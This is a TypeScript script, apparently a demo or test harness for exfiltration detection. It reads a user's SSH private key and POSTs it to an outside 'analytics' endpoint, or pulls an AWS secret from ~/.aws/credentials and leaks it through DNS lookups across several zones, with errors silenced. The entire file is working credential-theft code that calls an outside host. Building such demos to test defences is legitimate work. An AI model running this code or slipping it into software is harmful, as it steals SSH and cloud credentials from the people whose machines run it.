/** Leaks one of the demo's secrets in one way. Arguments: `dns` or `https`, the way, what of the secret. Nothing of it fails. */
import { lookup } from 'node:dns/promises';
import { readFileSync } from 'node:fs';
import { Agent, request } from 'node:https';
import { ASKED, POSTED, type Request, ZONES } from './variants.ts';

const [kind, way = '', part = ''] = process.argv.slice(2);
const home = process.env.DEMO_HOME;
const agent = new Agent({ keepAlive: true });

const post = ({ body, headers }: Request): Promise<void> =>
  new Promise((done) => {
    const length = Buffer.byteLength(body);
    const sent = request('https://analytics-demo.com/v1/events', {
      agent,
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json', 'content-length': length },
    });
    sent.on('response', (answer) => answer.resume().on('end', done));
    sent.on('error', () => done());
    sent.end(body);
  });

if (kind === 'https') {
  for (const each of POSTED[way]?.send(readFileSync(`${home}/.ssh/id_ed25519`)) ?? []) await post(each);
} else {
  const credentials = readFileSync(`${home}/.aws/credentials`, 'utf8');
  const [, secret = ''] = new RegExp(`aws_${part} = (\\S+)`).exec(credentials) ?? [];
  for (const zone of ZONES) {
    for (const name of ASKED[way]?.ask(Buffer.from(secret)) ?? []) await lookup(`${name}.${zone}`).catch(() => {});
  }
}
agent.destroy();
